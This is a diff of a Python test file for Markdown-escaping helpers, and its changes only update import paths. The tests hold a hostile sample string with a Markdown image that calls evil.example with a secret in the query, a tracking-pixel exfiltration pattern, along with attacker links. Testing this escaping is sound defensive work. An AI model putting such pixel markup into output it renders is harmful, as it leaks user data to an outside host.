@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from lib.safe_text import display_markdown
+from lib.common.safe_text import display_markdown
 from tests.api_double import ApiDouble, Reply
 from tests.test_tool_loop import _app
 from tests.stubs import StubServer
@@ -27,7 +27,7 @@ def test_tool_page_shows_an_injected_image_as_text() -> None:
 
 
 def test_counts_read_as_english() -> None:
-    from lib.safe_text import plural
+    from lib.common.safe_text import plural
 
     assert [plural(n, "model") for n in (0, 1, 2)] == ["0 models", "1 model", "2 models"]
 
@@ -37,7 +37,7 @@ def test_a_servers_words_show_as_written_with_no_image_no_link() -> None:
     fetches (a tracking pixel), nor a link (bracketed or bare), nor formatting: every Markdown character is escaped."""
     import re
 
-    from lib.safe_text import literal
+    from lib.common.safe_text import literal
 
     hostile = "Bad ![pixel](http://evil.example/p.png?c=secret) see [here](http://evil.example) **now** `x` _y_"
     out = literal(hostile)
@@ -86,7 +86,7 @@ HOSTILE = [
 
 
 def test_as_text_leaves_no_markdown_that_could_fetch_or_link_and_shows_the_text_as_written() -> None:
-    from lib.safe_text import as_text
+    from lib.common.safe_text import as_text
 
     for text in HOSTILE:
         out = as_text(text)
@@ -100,7 +100,7 @@ def test_as_text_leaves_no_markdown_that_could_fetch_or_link_and_shows_the_text_
 
 
 def test_as_text_keeps_everyday_names_and_numbers_as_they_are() -> None:
-    from lib.safe_text import as_text
+    from lib.common.safe_text import as_text
 
     for text in ("Llama 3.1 405B", "Llama 3.2 90B Vision on NVIDIA API catalog · 2.4 s · 1,234 tokens",
                  "Brave Search API", "meta/llama-3.1-405b-instruct (asked for it)", "Done!"):
@@ -108,14 +108,14 @@ def test_as_text_keeps_everyday_names_and_numbers_as_they_are() -> None:
 
 
 def test_as_text_escapes_a_backslash_so_it_cannot_unescape_what_follows() -> None:
-    from lib.safe_text import as_text
+    from lib.common.safe_text import as_text
 
     assert as_text("\\![x](u)") == "\\\\!\\[x\\](u)"
     assert _unescaped(as_text("\\\\[x](u)"), "[]") == []
 
 
 def test_as_text_can_keep_code_spans_which_never_fetch_or_link() -> None:
-    from lib.safe_text import as_text
+    from lib.common.safe_text import as_text
 
     ours = "Pick a free model (on OpenRouter the ones ending in `:free`)."
     assert as_text(ours, keep_code=True) == ours
@@ -131,7 +131,7 @@ def test_as_text_can_keep_code_spans_which_never_fetch_or_link() -> None:
 def test_code_span_is_one_span_however_many_backticks_or_lines_the_text_holds() -> None:
     import re
 
-    from lib.safe_text import code_span
+    from lib.common.safe_text import code_span
 
     assert code_span('brave_search(query="x")') == '`brave_search(query="x")`'
     assert code_span("a`b") == "``a`b``"
@@ -146,8 +146,8 @@ def test_code_span_is_one_span_however_many_backticks_or_lines_the_text_holds() 
 
 
 def test_an_imported_error_shows_its_title_and_message_as_written() -> None:
-    from lib.errors import ErrorKind, UserError
-    from lib.safe_text import error_as_text
+    from lib.hosts.errors import ErrorKind, UserError
+    from lib.common.safe_text import error_as_text
 
     err = UserError(ErrorKind.UNKNOWN, f"Oops ![t]({PIXEL})", f"See [here]({PIXEL}) or `MODELS_API_KEY`.",
                     detail=f"![d]({PIXEL})", status=400)
